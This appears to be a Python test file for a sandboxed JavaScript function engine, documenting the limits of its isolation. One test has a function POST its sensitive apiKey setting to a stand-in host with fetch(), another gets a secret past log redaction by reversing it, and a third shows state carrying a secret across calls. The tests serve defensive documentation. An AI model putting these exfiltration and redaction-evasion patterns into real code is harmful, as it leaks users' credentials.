"""What does not hold, as engine/SECURITY.md says: where one of these fails, the page has a line too many."""

from __future__ import annotations

import msgspec
from tests.escape.prisons import Prison, value_of

from isthmus import Function, Kind, SettingDefinition

SECRET = "correct-horse-battery-staple"


def thief(code: str) -> Function:
    return Function(
        name="thief",
        kind=Kind.DESTINATION,
        language="javascript",
        code=code,
        settings=(SettingDefinition(name="apiKey", sensitive=True),),
    )


async def test_a_function_may_send_its_settings_where_its_rules_let_it(javascript: Prison) -> None:
    code = "async function onTrack(event, settings) { await fetch('http://a.example/', { method: 'POST', body: settings.apiKey }) }"
    instance = await javascript.engine.load(thief(code), settings={"apiKey": SECRET})
    outcome = await javascript.outcome(instance)
    assert outcome.problem is None
    (request,) = javascript.fetcher.requests
    assert request.body == SECRET.encode()
    assert SECRET.encode() not in msgspec.json.encode(
        outcome
    )  # what is shown of it hides the value all the same


async def test_a_secret_in_disguise_is_seen(javascript: Prison) -> None:
    code = "function onTrack(event, { apiKey }) { console.log(apiKey); console.log([...apiKey].reverse().join('')) }"
    instance = await javascript.engine.load(thief(code), settings={"apiKey": SECRET})
    plain, disguised = (await javascript.outcome(instance)).logs
    assert plain.text == "[redacted:apiKey]"
    assert disguised.text == SECRET[::-1]


async def test_what_is_kept_is_seen_by_the_next_call(javascript: Prison) -> None:
    code = "let seen; function onTrack(event) { const before = seen; seen = event.properties.secret; return before ?? null }"
    function = Function(name="f", kind=Kind.DESTINATION, language="javascript", code=code)
    fresh = await javascript.engine.load(function)
    kept = await javascript.engine.load(msgspec.structs.replace(function, isolation="instance"))
    for instance, second in ((fresh, None), (kept, SECRET)):
        assert value_of(await javascript.outcome(instance, secret=SECRET)) is None
        assert value_of(await javascript.outcome(instance, secret="another")) == second
